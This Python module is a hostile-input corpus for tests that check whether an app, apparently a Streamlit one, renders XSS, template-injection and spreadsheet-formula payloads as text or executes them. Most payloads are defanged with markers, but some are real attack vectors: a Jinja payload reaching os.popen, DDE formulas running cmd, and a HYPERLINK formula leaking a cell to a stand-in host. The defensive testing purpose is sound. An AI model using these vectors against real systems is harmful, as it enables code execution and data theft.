"""The hostile-input corpus: XSS, template-injection and spreadsheet-formula payloads.

Every payload leaves a marker if it ever runs, so a test can tell "shown as text" from
"executed":

- a JavaScript payload pushes its number onto ``window.__xss`` of the top window
  (:func:`mark`; popups and the map live in same-origin iframes, so tests check every
  frame), or opens an ``alert``/``confirm``/``prompt`` dialog (tests count dialogs);
- a payload that would load something asks for a host under ``xss.invalid`` (tests refuse
  and record every request that leaves the page's origin);
- a template payload evaluates to :data:`TEMPLATE_MARKERS` text ("tplevaluated", "1337")
  that does not occur in any payload's own text.

A dangerous link that needs a click to run (``<a href="javascript:...">``) is caught by
the tests' check that no element in the page carries a ``javascript:``/``data:``/
``vbscript:`` URL in an attribute that navigates or loads.

>>> len(XSS) >= 50 and len(TEMPLATES) >= 10
True
>>> len({p.text for p in ALL}) == len(ALL)
True
"""

from __future__ import annotations

from dataclasses import dataclass

#: Text a template payload would produce if a template engine evaluated it.
TEMPLATE_MARKERS = ("tplevaluated", "1337")
#: The host every loading payload points at (``.invalid`` never resolves; RFC 2606).
EXFIL_HOST = "xss.invalid"


def mark(number: int) -> str:
    """JavaScript that records ``number`` on the top window's ``__xss`` list (no ``;``)."""
    return f"(top.__xss=top.__xss||[]).push({number})"


@dataclass(frozen=True)
class Payload:
    number: int
    context: str
    text: str


def _build() -> tuple[list[Payload], list[Payload], list[Payload]]:
    m = mark
    xss: list[tuple[str, str]] = [
        # -- HTML element context
        ("html", f"<script>{m(1)}</script>"),
        ("html", f"<img src=x onerror={m(2)}>"),
        ("html", f"<svg onload={m(3)}>"),
        ("html", f"<svg/onload={m(4)}//"),
        ("html", f"<body onload={m(5)}>"),
        ("html", f'<iframe srcdoc="&lt;script&gt;{m(6)}&lt;/script&gt;"></iframe>'),
        ("html", f"<details open ontoggle={m(7)}>x</details>"),
        ("html", f"<input autofocus onfocus={m(8)}>"),
        ("html", f"<video><source onerror={m(9)}></video>"),
        ("html", f"<audio src=x onerror={m(10)}>"),
        ("html", f"<marquee onstart={m(11)}>x</marquee>"),
        ("html", f'<object data="javascript:{m(12)}"></object>'),
        ("html", f'<embed src="javascript:{m(13)}">'),
        ("html", f"<noscript><p title=\"</noscript><img src=x onerror={m(14)}>\"></noscript>"),
        ("html", f'<a href="javascript:{m(15)}" id=xss15>click me</a>'),
        ("html", f"<form><button formaction=javascript:{m(16)}>go</button></form>"),
        ("html", f"<xss id=x17 tabindex=1 autofocus onfocusin={m(17)}></xss>"),
        ("html", f"<select autofocus onfocus={m(18)}></select>"),
        ("html", "<img src=x onerror=alert(19)>"),
        ("html", "<svg onload=confirm(20)>"),
        ("html", "<img src=x onerror=prompt(21)>"),
        ("html", '<iframe src="javascript:alert(22)"></iframe>'),
        ("html", "<img src=x onerror=&#x61;lert(23)>"),
        ("html", f"<base href=\"javascript:{m(24)}//\">"),
        ("html", f'<meta http-equiv="refresh" content="0;url=javascript:{m(25)}">'),
        ("html", f"<img src=//{EXFIL_HOST}/img26>"),
        ("html", f'<link rel=stylesheet href="//{EXFIL_HOST}/l27.css">'),
        ("html", f"&lt;img src=x onerror={m(28)}&gt;"),  # already escaped: shown as typed
        ("html", f"%3Cimg%20src%3Dx%20onerror%3D{m(29)}%3E"),  # URL-encoded
        # -- attribute contexts (quoted, unquoted, no spaces, backticks)
        ("attribute", f'"><img src=x onerror={m(30)}>'),
        ("attribute", f"' onmouseover='{m(31)}' autofocus onfocus='{m(31)}' x='"),
        ("attribute", f'" autofocus onfocus="{m(32)}" x="'),
        ("attribute", f'"/onmouseover="{m(33)}"/x="'),
        ("attribute", f"`onmouseover={m(34)}` x=`"),
        ("attribute", f'x" style="background:url(//{EXFIL_HOST}/a35)" y="'),
        ("attribute", f"<img src=\"x`` `<script>{m(36)}</script>\"`` `>"),
        # -- JavaScript string and script-block contexts
        ("js-string", f"';{m(37)}//"),
        ("js-string", f'";{m(38)}//'),
        ("js-string", f"\\';{m(39)}//"),
        ("js-string", f"</script><script>{m(40)}</script>"),
        ("js-string", f"</SCRIPT ><svg onload={m(41)}>"),
        ("js-string", f'"}}]}}</script><script>{m(42)}</script>'),
        ("js-string", f"'\u2028{m(43)}//"),          # U+2028 LINE SEPARATOR
        ("js-string", f'"\u2029-{m(44)}-"'),         # U+2029 PARAGRAPH SEPARATOR
        ("js-string", f"\\u003cimg src=x onerror={m(45)}\\u003e"),
        ("js-string", f"`+{m(46)}+`"),               # backtick template literal
        ("js-string", f"${{{m(47)}}}"),              # ${...} inside a template literal
        ("js-string", f"{{{{constructor.constructor('{m(48)}')()}}}}"),  # AngularJS
        # -- comments and CDATA
        ("comment", f'<!--<img src="--><img src=x onerror={m(49)}//">'),
        ("comment", f"--><svg onload={m(50)}>"),
        ("comment", f"<![CDATA[><svg onload={m(51)}>]]>"),
        ("comment", f"*/{m(52)}/*"),
        # -- URL / href contexts
        ("url", f"javascript:{m(53)}"),
        ("url", f"JaVaScRiPt:{m(54)}"),
        ("url", f"java\tscript:{m(55)}"),
        ("url", f"java\nscript:{m(56)}"),
        ("url", f"&#106;avascript:{m(57)}"),
        ("url", f"jav&#x09;ascript:{m(58)}"),
        ("url", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;"
                f"{m(59)}"),
        ("url", f"\x01javascript:{m(60)}"),
        ("url", f"data:text/html,<script>{m(61)}</script>"),
        ("url", "data:text/html;base64,PHNjcmlwdD5hbGVydCg2Mik8L3NjcmlwdD4="),  # alert(62)
        ("url", "vbscript:msgbox(63)"),
        ("url", f"https://example.org/x\"onmouseover=\"{m(64)}"),
        # -- SVG and MathML
        ("svg", f'<svg><a xlink:href="javascript:{m(65)}"><text x=20 y=20>x</text></a></svg>'),
        ("svg", f"<svg><animate onbegin={m(66)} attributeName=x dur=1s>"),
        ("svg", f"<svg><script>{m(67)}</script></svg>"),
        ("svg", f"<svg><set attributeName=onmouseover to={m(68)}>"),
        ("mathml", f"<math><mtext><table><mglyph><style><img src=x onerror={m(69)}>"),
        ("mathml", f'<math href="javascript:{m(70)}">x</math>'),
        # -- CSS
        ("css", f"</style><script>{m(71)}</script>"),
        ("css", f"<style>@import '//{EXFIL_HOST}/i72.css'</style>"),
        ("css", f'<div style="background:url(//{EXFIL_HOST}/bg73)">x</div>'),
        ("css", f"<div style=\"width:expression({m(74)})\">x</div>"),
        ("css", f"}}</style><style>body{{background:url(//{EXFIL_HOST}/b75)}}</style>"),
        # -- Markdown (Streamlit renders Markdown)
        ("markdown", f"[x](javascript:{m(76)})"),
        ("markdown", f'![x](x" onerror="{m(77)})'),
        ("markdown", f"[x](javascript&#58;{m(78)})"),
        ("markdown", f"<javascript:{m(79)}>"),
        ("markdown", f"[x][r]\n\n[r]: javascript:{m(80)}"),
        ("markdown", f"```html\n<script>{m(81)}</script>\n```"),
        ("markdown", f"**<img src=x onerror={m(82)}>** `<svg onload={m(82)}>`"),
        ("markdown", f":red[<img src=x onerror={m(83)}>] :material/warning:"),
        ("markdown", f"$\\href{{javascript:{m(84)}}}{{x}}$"),
        ("markdown", f"Title\n===\n<img src=x onerror={m(85)}>"),
    ]
    templates = [
        "{{ 'tpl' ~ 'evaluated' }}",
        "{{7*191}}",
        "tpl{# a comment #}evaluated",
        "tpl{% if true %}evaluated{% endif %}",
        "{% set a = 'tpl' %}{{ a ~ 'evaluated' }}",
        "{{ 'TPL'|lower ~ 'evaluated' }}",
        "{{ lipsum.__globals__.os.popen('echo tpl' ~ 'evaluated').read() }}",
        "${'tpl'+'evaluated'}",
        "${7*191}",
        "#{'tpl'+'evaluated'}",
        "#{7*191}",
        "<%= 'tpl' + 'evaluated' %>",
        "{{= 'tpl'+'evaluated' }}",
        "[[${'tpl'+'evaluated'}]]",
        "{{ broken",
        "{% endfor %}",
    ]
    formulas = [
        '=HYPERLINK("https://xss.invalid/?leak="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "'=1+1",
        "=cmd|' /C notepad'!'A1'",
    ]
    numbered_xss = [Payload(n, context, text) for n, (context, text) in enumerate(xss, 1)]
    numbered_templates = [Payload(200 + n, "template", text) for n, text in enumerate(templates)]
    numbered_formulas = [Payload(300 + n, "formula", text) for n, text in enumerate(formulas)]
    return numbered_xss, numbered_templates, numbered_formulas


XSS, TEMPLATES, FORMULAS = _build()
ALL: list[Payload] = XSS + TEMPLATES + FORMULAS
TEXTS: list[str] = [p.text for p in ALL]


def by_context(context: str) -> list[Payload]:
    return [p for p in ALL if p.context == context]


def one_line(text: str) -> str:
    """``text`` with every kind of line break turned into a space (for a one-line field)."""
    return " ".join(text.split())
